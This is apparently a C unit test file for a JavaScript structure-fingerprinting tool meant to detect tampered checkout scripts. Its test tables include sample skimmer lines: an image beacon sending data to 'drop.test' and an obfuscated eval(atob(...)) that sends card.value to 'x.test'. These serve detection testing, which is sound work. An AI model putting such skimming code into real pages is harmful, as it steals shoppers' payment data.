#include "check.h"
#include "parse/parse.h"
#include "parse/structure.h"
#include <errno.h>

struct pair {
	const char *what, *a, *b;
};

static const struct pair equal[] = {
    {"white space and comments", "var a = 1; // one\nfunction f(x) {\n  return x + a;\n}",
     "var a=1;function f(x){return x+a}"},
    {"renamed parameters and variables",
     "(function(element, options) { var list = options.list; return list.map(function(entry) {"
     " return entry.name + element.id; }); })(document.body, {list: []});",
     "(function(e,t){var n=t.list;return n.map(function(t){return "
     "t.name+e.id})})(document.body,"
     "{list:[]});"},
    {"one short name for several locals",
     "function f(){ function first(one){return one} function second(two){return two}"
     " return first(second(1)) }",
     "function f(){function n(n){return n}function t(n){return n}return n(t(1))}"},
    {"arrows and their bodies",
     "const load = (host, path) => fetch(host + path).then(answer => answer.json());",
     "const load=(t,n)=>fetch(t+n).then(t=>t.json());"},
    {"destructuring and short keys",
     "function pay({number, cvc: code, ...rest}) { return {number, code, rest}; }",
     "function pay({number:n,cvc:r,...c}){return{number:n,code:r,rest:c}}"},
    {"let in blocks and loops",
     "function f(list){ for (let i = 0; i < list.length; i++) { let v = list[i]; g(v); }"
     " for (const v of list) h(v); }",
     "function f(e){for(let t=0;t<e.length;t++){let n=e[t];g(n)}for(const t of e)h(t)}"},
    {"catch, label, class",
     "function f(){ outer: for (;;) { try { break outer } catch (error) { log(error) } }"
     " return class Card { constructor(number) { this.number = number } } }",
     "function f(){e:for(;;){try{break e}catch(r){log(r)}}return class Card{constructor(e){"
     "this.number=e}}}"},
    {"the end of a line ends a statement", "function f(a) {\n  let b = a\n  g(b)\n}",
     "function f(n){let e=n;g(e)}"},
    {"quotes, escapes, a last comma", "f('a', \"b\", [1, 2,], 'it\\'s')",
     "f(\"a\",'b',[1,2],\"it's\")"},
    {"numbers and nonces rotate",
     "window.shop = {t: 1700000000123, sid: '7f9ac2e41b', nonce: 'R4nd0mV4lue=='}",
     "window.shop={t:1711111111999,sid:'0e12bb8d03',nonce:'Zq81LkPw02=='}"},
    {"queries and hashed names in addresses rotate",
     "load('https://cdn.test/app/main.js?v=20261101'); load('/static/8f3a91c2e4/app.js')",
     "load('https://cdn.test/app/main.js?v=20261125'); load('/static/10be77d2aa/app.js')"},
    {"a template without holes is a text", "f(`click`)", "f('click')"},
    {"regular expressions and divisions",
     "function f(a){ return /[/'\"]\\//.test(a) ? a / 2 / 3 : 0 }",
     "function f(t){return/[/'\"]\\//.test(t)?t/2/3:0}"},
};

static const struct pair different[] = {
    {"one line more", "function f(x){g(x)}",
     "function f(x){g(x);new Image().src='//drop.test/?'+x}"},
    {"another local is meant", "function f(masked, raw){send(masked)}",
     "function f(masked, raw){send(raw)}"},
    {"another property", "f(card.last4)", "f(card.number)"},
    {"another global", "fetch(u)", "importScripts(u)"},
    {"another event", "x.addEventListener('focus', f)", "x.addEventListener('keydown', f)"},
    {"another selector", "q('input[name=zip]')", "q('input[name=card]')"},
    {"a global becomes a local", "function f(a){return open(a)}",
     "function f(open){return open(a)}"},
    {"a regular expression", "x.match(/zip/)", "x.match(/card/)"},
    {"a hidden text of a script that runs text",
     "eval(atob('YWxlcnQoMSkvKioqKioqKioqKioqKioqKioqKioqKi8='))",
     "eval(atob('ZmV0Y2goJy8veC50ZXN0Lz8nK2NhcmQudmFsdWUpLyoqLw=='))"},
    {"codes of a script that runs text",
     "Function(String.fromCharCode(97,108,101,114,116,40,49,41,59,97,108,101,114,116,40,50,41)"
     ")",
     "Function(String.fromCharCode(102,101,116,99,104,40,49,41,59,97,108,101,114,116,40,50,41)"
     ")"},
};

/* Only the addresses differ, and that can be told. */
static const struct pair moved[] = {
    {"host", "fetch('https://api.vendor.test/v1/collect')",
     "fetch('https://api.vend0r.test/v1/collect')"},
    {"host without a scheme", "f('stats.vendor.test/c')", "f('stats.other.test/c')"},
    {"address of four numbers", "f('203.0.113.5')", "f('203.0.113.77')"},
    {"path", "f('https://vendor.test/a')", "f('https://vendor.test/upload')"},
};

static struct structure of(const char *text)
{
	struct structure s;
	struct arena a;

	arena_init(&a, 64u << 20);
	assert_int_equal(structure_js(&a, slice_str(text), &s), 0);
	arena_done(&a);
	return s;
}

static void test_equal(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(equal) / sizeof(equal[0]); i++) {
		struct structure a = of(equal[i].a), b = of(equal[i].b);

		if (!hash_eq(&a.code, &b.code) || !hash_eq(&a.urls, &b.urls))
			fail_msg("%s: differ", equal[i].what);
	}
}

static void test_different(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(different) / sizeof(different[0]); i++) {
		struct structure a = of(different[i].a), b = of(different[i].b);

		if (hash_eq(&a.code, &b.code))
			fail_msg("%s: equal", different[i].what);
	}
}

static void test_moved(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(moved) / sizeof(moved[0]); i++) {
		struct structure a = of(moved[i].a), b = of(moved[i].b);

		if (!hash_eq(&a.code, &b.code) || hash_eq(&a.urls, &b.urls))
			fail_msg("%s: not told apart", moved[i].what);
	}
}

static void test_texts(void **state)
{
	static const struct {
		const char *text;
		enum structure_text is;
	} cases[] = {
	    {"keydown", STRUCTURE_WORD},
	    {"getElementById", STRUCTURE_WORD},
	    {"input[autocomplete=\"cc-number\"]", STRUCTURE_WORD},
	    {"", STRUCTURE_WORD},
	    {"https://a.test/", STRUCTURE_URL},
	    {"//a.test/x", STRUCTURE_URL},
	    {"wss://a.test", STRUCTURE_URL},
	    {"/checkout/pay", STRUCTURE_URL},
	    {"jquery.min.js", STRUCTURE_WORD},
	    {"7f9ac2e41b", STRUCTURE_ROTATING},
	    {"kJhTgRfEdWsQaZxVbNmLpOiU", STRUCTURE_ROTATING},
	    {"2026-11-25T10:00:00Z", STRUCTURE_ROTATING},
	    {"\xe3\x81\x82\xe3\x82\x8a\xe3\x81\x8c\xe3\x81\xa8\xe3\x81\x86",
	     STRUCTURE_ROTATING},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		if (structure_text_of(slice_str(cases[i].text)) != cases[i].is)
			fail_msg("%s: %d", cases[i].text,
			         (int)structure_text_of(slice_str(cases[i].text)));
	}
}

/* The text form, and what is no JavaScript, or too much of it. */
static void test_door(void **state)
{
	static char many[9u << 20];
	char out[PARSE_STRUCTURE_BYTES] = "";

	(void)state;
	assert_int_equal(parse_structure(SLICE("f(1)"), out), 0);
	assert_int_equal(strlen(out), PARSE_STRUCTURE_BYTES - 1);
	assert_int_equal(out[32], '.');
	assert_int_equal(parse_structure(SLICE("<html>}}}) \xff\xfe `${`${"), out), 0);
	memset(many, '+', sizeof(many));
	for (size_t i = 0; i + 1 < sizeof(many); i += 2)
		many[i] = 'a';
	assert_int_equal(parse_structure(slice_mem(many, sizeof(many)), out), -E2BIG);
	/* Deeper than scopes are followed: still told apart, by its tokens. */
	memset(many, '(', 100000);
	assert_int_equal(parse_structure(slice_mem(many, 100000), out), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_equal), cmocka_unit_test(test_different),
	    cmocka_unit_test(test_moved), cmocka_unit_test(test_texts),
	    cmocka_unit_test(test_door),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
